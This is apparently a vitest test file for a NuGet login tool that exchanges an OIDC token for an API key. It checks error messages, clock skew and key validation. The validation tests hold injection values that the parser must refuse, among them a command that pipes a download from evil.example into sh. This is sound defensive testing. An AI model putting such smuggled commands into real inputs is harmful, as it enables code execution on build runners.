import { describe, expect, it } from 'vitest'
import { fakeSend } from '../../../fakes/send.ts'
import { exchangeOidcToken, parseApiKeyAnswer } from '../../../../src/login/exchange/exchange.ts'

const NOW = Date.parse('2026-11-21T10:00:00Z')
const KEY = 'oy2'.padEnd(84, 'k')
const SUCCESS = JSON.stringify({
  tokenType: 'ApiKey',
  expires: '2026-11-21T11:00:00.0000000+00:00',
  apiKey: KEY
})

const request = {
  tokenServiceUrl: new URL('https://www.nuget.org/api/v2/token'),
  user: 'alice',
  oidcToken: 'header.claims.signature',
  userAgent: 'nuget-login/test',
  timeoutMs: 5000
}

describe('exchangeOidcToken', () => {
  it('posts the username and token type with the OIDC token as bearer', async () => {
    const { send, sent } = fakeSend({ body: SUCCESS })
    const key = await exchangeOidcToken(send, request, NOW)

    expect(key).toEqual({ value: KEY, expires: new Date('2026-11-21T11:00:00Z') })
    expect(sent).toEqual([
      {
        method: 'POST',
        url: request.tokenServiceUrl,
        headers: {
          Accept: 'application/json',
          Authorization: 'Bearer header.claims.signature',
          'Content-Type': 'application/json',
          'User-Agent': 'nuget-login/test'
        },
        body: '{"username":"alice","tokenType":"ApiKey"}',
        timeoutMs: 5000
      }
    ])
  })

  it('fails with the server’s message on a refusal', async () => {
    const { send } = fakeSend({ status: 401, body: '{"error":"The JSON web token has expired."}' })
    await expect(exchangeOidcToken(send, request, NOW)).rejects.toMatchObject({
      message: 'www.nuget.org refused the login (HTTP 401): The JSON web token has expired.',
      serverMessage: 'The JSON web token has expired.',
      transient: false
    })
  })

  it('says to check token-service-url when the endpoint is not there', async () => {
    const { send } = fakeSend({ status: 404 })
    await expect(exchangeOidcToken(send, request, NOW)).rejects.toMatchObject({
      message: 'www.nuget.org refused the login (HTTP 404).',
      hint: expect.stringContaining('Check that `token-service-url` is the token endpoint')
    })
  })

  it('explains an HTML 500 as a fault on the server side, and keeps it retryable', async () => {
    const { send } = fakeSend({ status: 500, body: '<html><body>Runtime Error</body></html>' })
    await expect(exchangeOidcToken(send, request, NOW)).rejects.toMatchObject({
      message: 'www.nuget.org refused the login (HTTP 500): Runtime Error',
      transient: true,
      hint: expect.stringMatching(
        /internal error.*not in your workflow or policy.*status\.nuget\.org/
      )
    })
  })

  it('does not follow a redirect and says to update token-service-url', async () => {
    const { send } = fakeSend({ status: 301, headers: { location: 'https://api.example/token' } })
    await expect(exchangeOidcToken(send, request, NOW)).rejects.toMatchObject({
      message: expect.stringContaining('redirect to https://api.example/token'),
      hint: expect.stringContaining('token-service-url')
    })
  })
})

describe('parseApiKeyAnswer', () => {
  const body = (fields: Record<string, unknown>) =>
    JSON.stringify({ tokenType: 'ApiKey', expires: '2026-11-21T11:00:00Z', apiKey: KEY, ...fields })

  it.each([
    ['<html>OK</html>', 'it is not JSON'],
    ['[1,2]', 'it is not a JSON object'],
    ['null', 'it is not a JSON object'],
    [body({ apiKey: undefined }), 'it holds no `apiKey`'],
    [body({ apiKey: '' }), 'it holds no `apiKey`'],
    [body({ apiKey: 42 }), 'it holds no `apiKey`'],
    [body({ apiKey: 'abc\n::set-output name=x::y' }), 'white space, control or non-ASCII'],
    [body({ apiKey: 'abc def' }), 'white space, control or non-ASCII'],
    [body({ apiKey: 'clé' }), 'white space, control or non-ASCII'],
    [body({ apiKey: 'k'.repeat(5000) }), 'is 5000 characters long'],
    [body({ apiKey: 'A1$(curl${IFS}evil.example|sh)' }), 'could run as code'],
    [body({ apiKey: 'A1`id`' }), 'could run as code'],
    [body({ apiKey: 'A1";id;"' }), 'could run as code'],
    [body({ apiKey: "A1'&id&'" }), 'could run as code'],
    [body({ apiKey: 'A1%PATH%' }), 'could run as code'],
    [body({ apiKey: '--source=x' }), 'could run as code'],
    [body({ expires: 'tomorrow' }), '`expires` is not a valid time'],
    [body({ expires: 1795257221 }), '`expires` is not a valid time'],
    [body({ expires: '' }), '`expires` is not a valid time']
  ])('refuses %s: %s', (answer, reason) => {
    expect(() => parseApiKeyAnswer(answer, NOW)).toThrow(reason)
  })

  it.each([[undefined], [null]])(
    'accepts a key whose answer has expires %s, with no expiry',
    (expires) => {
      expect(parseApiKeyAnswer(body({ expires }), NOW)).toEqual({ value: KEY, expires: undefined })
    }
  )

  it('accepts a nuget.org v5 key: 84 ASCII letters and digits', () => {
    const key = `${'A1b2'.repeat(13)}${'Z9'.repeat(16)}`
    expect(parseApiKeyAnswer(body({ apiKey: key }), NOW).value).toBe(key)
  })

  it.each([
    ['a one-letter key', 'a', 'its `apiKey` is 1 character long'],
    ['a key one short', KEY.slice(1), 'its `apiKey` is 83 characters long'],
    ['a key one too long', `${KEY}k`, 'its `apiKey` is 85 characters long'],
    ['a GUID', 'e3b0c442-98fc-4c14-9afb-f4c8996fb924', '(36 characters) holds characters other'],
    ['a base64url key of 84', `${KEY.slice(2)}_-`, '(84 characters) holds characters other'],
    ['a token-shaped key of 84', `${KEY.slice(1)}.`, '(84 characters) holds characters other']
  ])('refuses %s, which nuget.org never issues, naming its length', (_, key, reason) => {
    let error: unknown
    try {
      parseApiKeyAnswer(body({ apiKey: key }), NOW)
    } catch (caught) {
      error = caught
    }
    expect(error).toMatchObject({
      message: expect.stringContaining(reason),
      hint: expect.stringContaining('`token-service-url` points at the nuget.org token endpoint')
    })
    expect((error as Error).message).toContain("nuget.org's keys are 84 ASCII letters and digits")
    if (key.length > 1) expect((error as Error).message).not.toContain(key)
  })

  it('refuses a key that is code without quoting it', () => {
    const key = 'A1$(touch${IFS}pwned)'
    expect(() => parseApiKeyAnswer(body({ apiKey: key }), NOW)).toThrow(
      expect.objectContaining({ message: expect.not.stringContaining('touch') })
    )
  })

  it("reads .NET's 7-digit round-trip time", () => {
    expect(
      parseApiKeyAnswer(body({ expires: '2026-11-21T10:33:41.5066617+00:00' }), NOW).expires
    ).toEqual(new Date('2026-11-21T10:33:41.506Z'))
  })

  it('never quotes the body of a success answer', () => {
    const secret = 'k'.repeat(2000)
    expect(() => parseApiKeyAnswer(body({ apiKey: `${secret}` }), NOW)).toThrow(
      expect.objectContaining({ message: expect.not.stringContaining(secret) })
    )
  })

  describe('judges the key by the server’s clock when its answer is dated', () => {
    const HOUR = 3_600_000
    const fresh = body({ expires: '2026-11-21T10:15:00Z' })

    it('keeps a fresh key on a runner an hour ahead, and measures how far ahead', () => {
      const runnerNow = NOW + HOUR
      expect(parseApiKeyAnswer(fresh, runnerNow, NOW)).toEqual({
        value: KEY,
        expires: new Date('2026-11-21T10:15:00Z'),
        clockSkewMs: HOUR
      })
    })

    it('refuses a key that had expired by the server’s own clock, even on a runner behind', () => {
      const expired = body({ expires: '2026-11-21T09:59:00Z' })
      expect(() => parseApiKeyAnswer(expired, NOW - HOUR, NOW)).toThrow(
        "already expired at 2026-11-21T09:59:00.000Z by the token service's own clock " +
          '(its answer is dated 2026-11-21T10:00:00.000Z)'
      )
    })

    it('without a Date, says the runner’s clock may be ahead, and by how much', () => {
      const runnerNow = NOW + HOUR
      let error: unknown
      try {
        parseApiKeyAnswer(fresh, runnerNow)
      } catch (caught) {
        error = caught
      }
      expect(error).toMatchObject({
        message: expect.stringMatching(
          /expires at 2026-11-21T10:15:00\.000Z, 45 minutes before this runner's clock .*either the runner's clock is ahead by at least that much/
        ),
        hint: expect.stringMatching(/^Compare the runner's clock with the real time/)
      })
    })
  })

  it('measures the clock difference from the Date header of the answer', async () => {
    const { send } = fakeSend({
      body: SUCCESS,
      headers: { date: 'Sat, 21 Nov 2026 09:00:00 GMT' }
    })
    const key = await exchangeOidcToken(send, request, NOW)
    expect(key.clockSkewMs).toBe(3_600_000)
  })
})
